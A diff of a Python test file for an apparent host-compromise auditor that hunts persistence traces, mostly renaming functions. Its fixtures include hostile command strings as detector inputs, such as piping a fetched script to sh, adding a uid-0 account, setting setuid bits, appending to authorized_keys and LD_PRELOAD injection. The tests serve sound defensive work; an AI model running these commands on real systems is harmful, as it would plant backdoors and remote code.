@@ -17,8 +17,8 @@ from auditor.compromise.file_listing import ListingError
 from auditor.models import Trace
 from auditor.models.hunts import KINDS, OUTSIDE
 from auditor.models.reviews import MAX_RULES
-from auditor.scans.dedup import merge_traces
-from auditor.scans.traces import key_of
+from auditor.scans.dedup import merge_traces_by_key
+from auditor.scans.traces import compute_trace_key
 
 SHM, TMP = "/dev/shm/x", "/tmp/x"  # noqa: S108 - never opened
 
@@ -29,7 +29,7 @@ def place(slot: Slot, said: str = "", *marks: str, **changes: Any) -> Autorun:
 
 
 def told(one: Autorun, before: tuple[str, ...] | None = None) -> tuple[str, str, tuple[str, ...]] | None:
-    found = persistence.find_traces([one], before)
+    found = persistence.find_traces_in_autoruns([one], before)
     return (found[0].kind, found[0].certainty, found[0].rules) if found else None
 
 
@@ -143,7 +143,7 @@ def test_what_administrators_write_is_no_trace(one: Autorun) -> None:
     ],
 )
 def test_what_jobs_do_everywhere_is_no_sign(line: str) -> None:
-    assert list(suspicious_commands.find_signs(line)) == []
+    assert list(suspicious_commands.find_signs_in_command_text(line)) == []
 
 
 @pytest.mark.parametrize(
@@ -156,7 +156,7 @@ def test_what_jobs_do_everywhere_is_no_sign(line: str) -> None:
     ],
 )
 def test_no_part_of_a_secret_is_shown(line: str) -> None:
-    (trace,) = persistence.find_traces([place("cron", line)])
+    (trace,) = persistence.find_traces_in_autoruns([place("cron", line)])
     assert "S3cret" not in trace.sample
     assert "Pw" not in trace.sample.replace("PGPASSWORD", "")
 
@@ -164,11 +164,11 @@ def test_no_part_of_a_secret_is_shown(line: str) -> None:
 def test_a_text_made_to_hurt_costs_no_more_than_its_length() -> None:
     began = time.process_time()
     for piece in ("curl ", "base64 |", "socket ", "sh $(", "/a", "eval ", "nc -", "export LD_PRELOAD ", "alias "):
-        list(suspicious_commands.find_signs(piece * (20_000 // len(piece))))
-        list(suspicious_commands.find_signs("\n".join([piece * 50] * 60)))
+        list(suspicious_commands.find_signs_in_command_text(piece * (20_000 // len(piece))))
+        list(suspicious_commands.find_signs_in_command_text("\n".join([piece * 50] * 60)))
         suspicious_commands.classify_odd_path(piece * 200)
     for piece in ("base64 ", "curl && "):
-        list(suspicious_commands.find_signs("\n".join([piece * 600] * 40)))
+        list(suspicious_commands.find_signs_in_command_text("\n".join([piece * 600] * 40)))
     assert time.process_time() - began < 5
 
 
@@ -177,31 +177,35 @@ def test_a_key_of_root_that_was_not_there_before_is_an_alarm_and_any_other_news_
     assert told(key, ()) == ("key", "strong", ("key", "new"))
     assert told(job, ()) == ("job", "weak", ("foreign", "new"))
     news = place("cms_account", who="a", where="/srv/www"), place("cms_account", "", "read", who="", where="/srv/www")
-    assert told(news[0], persistence.collect_keys(news[1:])) == ("account", "strong", ("administrator", "new"))
-    assert told(news[0], persistence.collect_keys(news)) == ("account", "weak", ("administrator",))
+    assert told(news[0], persistence.collect_trace_keys_of_autoruns(news[1:])) == (
+        "account",
+        "strong",
+        ("administrator", "new"),
+    )
+    assert told(news[0], persistence.collect_trace_keys_of_autoruns(news)) == ("account", "weak", ("administrator",))
     assert told(news[0], ()) == ("account", "weak", ("administrator", "new"))
     assert told(news[1], ()) is None
-    (trace,) = persistence.find_traces([key])
+    (trace,) = persistence.find_traces_in_autoruns([key])
     assert told(key, (trace.key,)) == ("key", "weak", ("key",))
-    assert trace.key == key_of("key", "key\n/etc/x\nroot\nssh-ed25519 SHA256:x")
+    assert trace.key == compute_trace_key("key", "key\n/etc/x\nroot\nssh-ed25519 SHA256:x")
 
 
 def test_an_administrator_of_days_is_an_alarm_beside_another_and_stays_one_until_accepted() -> None:
     tables = place("cms_account", "", "read", who="", where="/srv/www")
     made = place("cms_account", "", "of_days", who="a", where="/srv/www")
-    (weak,) = persistence.find_traces([tables, made])
+    (weak,) = persistence.find_traces_in_autoruns([tables, made])
     assert (weak.certainty, weak.rules) == ("weak", ("administrator", "administrator_of_days"))
 
     def beside(where: str) -> Trace:
-        (alarm,) = persistence.find_traces([place("setuid", "", "shell", where=where)])
+        (alarm,) = persistence.find_traces_in_autoruns([place("setuid", "", "shell", where=where)])
         assert alarm.certainty == "exact"
-        (told,) = persistence.with_new_administrators([weak], [alarm])
+        (told,) = persistence.escalate_new_administrators([weak], [alarm])
         return told
 
     assert beside("/srv/www2/x").certainty == "weak"
     alarming = beside("/srv/www/x")
     assert alarming.certainty == "strong"
-    before = tuple(persistence.select_known_keys([tables, made], [alarming]))
+    before = tuple(persistence.select_keys_known_to_next_hunt([tables, made], [alarming]))
     assert told(place("cms_account", who="a", where="/srv/www"), before) == (
         "account",
         "strong",
@@ -212,10 +216,10 @@ def test_an_administrator_of_days_is_an_alarm_beside_another_and_stays_one_until
 def test_a_key_that_an_administrator_has_too_is_not_told_as_what_is_to_be_refused() -> None:
     """Whoever may write a service's folder may lay any public key there."""
     planted = place("key", "ssh-ed25519 SHA256:x", "service", where="/var/www/.ssh/authorized_keys", exactly="SHA256:x")
-    (alone,) = persistence.find_traces([planted])
+    (alone,) = persistence.find_traces_in_autoruns([planted])
     assert (alone.certainty, alone.exactly) == ("strong", "SHA256:x")
     theirs = place("key", "ssh-ed25519 SHA256:x", "root", exactly="SHA256:x")
-    assert [(one.certainty, one.exactly) for one in persistence.find_traces([planted, theirs])] == [
+    assert [(one.certainty, one.exactly) for one in persistence.find_traces_in_autoruns([planted, theirs])] == [
         ("strong", ""),
         ("weak", ""),
     ]
@@ -224,7 +228,7 @@ def test_a_key_that_an_administrator_has_too_is_not_told_as_what_is_to_be_refuse
 def test_what_tells_it_from_all_else_is_told_of_all_that_are_one_trace_or_not_at_all() -> None:
     def told_of(*exactly: str) -> str:
         there = [place("process", "x", "deleted", where=TMP, package_status="gone", exactly=one) for one in exactly]
-        return merge_traces(persistence.find_traces(there))[0].exactly
+        return merge_traces_by_key(persistence.find_traces_in_autoruns(there))[0].exactly
 
     assert told_of("7", "9", "7") == "7 9"
     assert told_of("7", "") == told_of("", "7") == told_of("7\n") == told_of(*map(str, range(90))) == ""
@@ -232,24 +236,24 @@ def test_what_tells_it_from_all_else_is_told_of_all_that_are_one_trace_or_not_at
 
 def test_where_something_lies_is_written_so_that_it_can_be_acted_on() -> None:
     one = place("temporary", "", "elf", where="/var/a\n\udcff0912345678.x", who="\ud800")
-    assert persistence.find_traces([one])[0].where == "/var/a%0A%FF0912345678.x (?)"
+    assert persistence.find_traces_in_autoruns([one])[0].where == "/var/a%0A%FF0912345678.x (?)"
 
 
 def test_a_new_key_of_root_is_news_until_it_is_accepted_or_gone() -> None:
     before: frozenset[str] = frozenset()
     there = [place("key", "ssh-ed25519 SHA256:x", "root"), place("cron", "/opt/app/run")]
     for _ in range(3):
-        traces = persistence.find_traces(there, before)
+        traces = persistence.find_traces_in_autoruns(there, before)
         assert [(one.kind, one.certainty) for one in traces] == [("key", "strong"), ("job", "weak")]
-        before = persistence.select_known_keys(there, traces)
-    assert before == persistence.collect_keys(there[1:])
-    first = persistence.find_traces(there, None)
-    assert persistence.select_known_keys(there, first) == persistence.collect_keys(there)
+        before = persistence.select_keys_known_to_next_hunt(there, traces)
+    assert before == persistence.collect_trace_keys_of_autoruns(there[1:])
+    first = persistence.find_traces_in_autoruns(there, None)
+    assert persistence.select_keys_known_to_next_hunt(there, first) == persistence.collect_trace_keys_of_autoruns(there)
 
 
 def test_what_a_process_calls_itself_makes_no_other_trace_of_it() -> None:
     first, second = (place("process", title, "mapped", where="/usr/sbin/sshd") for title in ("sshd: a", "sshd: b"))
-    assert persistence.collect_keys([first]) == persistence.collect_keys([second])
+    assert persistence.collect_trace_keys_of_autoruns([first]) == persistence.collect_trace_keys_of_autoruns([second])
 
 
 def test_every_slot_has_a_kind_that_controls_ask_for() -> None:
@@ -310,7 +314,7 @@ def test_places_are_taken_in_as_they_were_said() -> None:
     assert found.all[0].where == "/etc/a\n\udcff"
     assert found.all[0].marks == {"setuid"}
     assert found.cut_short == ("files",)
-    (trace,) = persistence.find_traces(found.all)
+    (trace,) = persistence.find_traces_in_autoruns(found.all)
     assert "\n" not in trace.where
 
 
@@ -330,7 +334,7 @@ def digests(*lines: str) -> str:
     ],
 )
 def test_a_line_of_settings_is_told_by_its_digest(one: Autorun, lines: int) -> None:
-    (found,) = persistence.find_traces([one])
+    (found,) = persistence.find_traces_in_autoruns([one])
     assert found.exactly == (digests(one.text) if lines else "")
 
 
@@ -339,27 +343,29 @@ def test_of_a_script_the_lines_are_told_that_say_something() -> None:
     one = place(
         "start", "\n".join(["alias x=y", *bad, "umask 022"]), programs=((SHM, "foreign"), ("/opt/y", "foreign"))
     )
-    (found,) = persistence.find_traces([one])
+    (found,) = persistence.find_traces_in_autoruns([one])
     assert found.exactly == digests(*bad)
 
 
 def test_more_lines_than_a_trace_has_room_for_are_told_by_none() -> None:
     one = place("hook", "\n".join(f"curl https://x.example/{n} | sh" for n in range(5)))
-    (found,) = persistence.find_traces([one])
+    (found,) = persistence.find_traces_in_autoruns([one])
     assert found.exactly == ""
 
 
 def test_however_many_rules_there_are_it_is_told_how_the_thing_stands_to_packages() -> None:
     said = "curl https://x.example | sh; chmod 4755 /x; useradd -o -u 0 x; echo x >> authorized_keys; LD_PRELOAD=/x y"
-    (found,) = persistence.find_traces([place("unit", said, "replaces")])
+    (found,) = persistence.find_traces_in_autoruns([place("unit", said, "replaces")])
     assert len(found.rules) == MAX_RULES
     assert {"foreign", "replaces_unit"} < set(found.rules)
 
 
 def test_what_a_package_brought_and_somebody_changed_is_told_so_beside_what_it_says() -> None:
-    (found,) = persistence.find_traces([place("start", "curl https://x.example | sh", package_status="changed")])
+    (found,) = persistence.find_traces_in_autoruns(
+        [place("start", "curl https://x.example | sh", package_status="changed")]
+    )
     assert found.rules == ("runs_fetched", "changed")
-    assert persistence.find_traces([place("start", "umask 022", package_status="changed")]) == ()
+    assert persistence.find_traces_in_autoruns([place("start", "umask 022", package_status="changed")]) == ()
 
 
 def test_a_pool_that_is_called_www_prepends_no_less() -> None:
@@ -378,6 +384,6 @@ def test_a_pool_that_is_called_www_prepends_no_less() -> None:
 )
 def test_a_name_that_ends_as_if_it_said_whose_it_is_is_no_other_s(slot: Slot, path: str, who: str) -> None:
     one = place(slot, "curl http://x.example | sh", "setuid", where=path, who=who, package_status="foreign")
-    (trace,) = persistence.find_traces([one])
-    assert persistence.path_of(trace.kind, trace.where) == path
-    assert persistence.owner_of(trace.kind, trace.where) == who
+    (trace,) = persistence.find_traces_in_autoruns([one])
+    assert persistence.get_path_in_trace_location(trace.kind, trace.where) == path
+    assert persistence.get_account_in_trace_location(trace.kind, trace.where) == who
